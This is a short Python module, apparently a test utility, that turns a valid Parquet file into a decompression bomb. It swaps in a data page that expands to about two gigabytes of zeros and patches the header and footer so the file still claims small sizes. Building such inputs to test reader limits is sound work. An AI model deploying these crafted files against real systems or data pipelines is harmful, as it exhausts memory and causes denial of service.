"""A Parquet file with a page that is small on disk and two gigabytes in memory, although the file claims few lines."""

import io
import struct
from functools import cache

import pyarrow as pa
import pyarrow.parquet as pq

SIZE = 2**31 - 1  # the largest size in the header of a page
CHUNK = 2**24
MAGIC = b"PAR1"
HEAD = b"\x15\x00\x15"  # the type of a page, before its size


def number(value: int) -> bytes:
    """A non-negative number in Thrift's encoding."""
    left, found = value << 1, b""
    while left > 127:
        found, left = found + bytes([left & 127 | 128]), left >> 7
    return found + bytes([left])


def with_bomb(content: bytes) -> bytes:
    """Replace the first column of a file by one page that unpacks to SIZE zeros, without changing the claimed sizes."""
    column = pq.ParquetFile(io.BytesIO(content)).metadata.row_group(0).column(0)
    start, packed, unpacked = column.data_page_offset, column.total_compressed_size, column.total_uncompressed_size
    page = content[start : start + packed]
    assert page.startswith(HEAD)
    sizes = next(
        (whole, part) for part in range(packed) for whole in [unpacked - packed + part] if whole >= 0 and fits(page, whole, part)
    )
    behind = page[len(HEAD + number(sizes[0]) + b"\x15" + number(sizes[1])) : packed - sizes[1]]
    bomb = zeros()
    new = HEAD + number(SIZE) + b"\x15" + number(len(bomb)) + behind + bomb
    footer, length = content[:-8], struct.unpack("<I", content[-8:-4])[0]
    body, footer = footer[:-length], footer[-length:]
    old = b"\x16" + number(unpacked) + b"\x16" + number(packed) + b"\x26" + number(start)
    assert footer.count(old) == 1
    footer = footer.replace(old, b"\x16" + number(unpacked) + b"\x16" + number(len(new)) + b"\x26" + number(len(body)))
    return body + new + footer + struct.pack("<I", len(footer)) + MAGIC  # the old page stays where it was


def fits(page: bytes, whole: int, part: int) -> bool:
    """Whether a page's header claims these sizes, unpacked and packed."""
    return page.startswith(HEAD + number(whole) + b"\x15" + number(part))


@cache
def zeros() -> bytes:
    """SIZE zeros, compressed."""
    sink = pa.BufferOutputStream()
    with pa.CompressedOutputStream(sink, "zstd") as stream:
        left = SIZE
        while left:
            stream.write(bytes(min(left, CHUNK)))
            left -= min(left, CHUNK)
    return bytes(sink.getvalue())
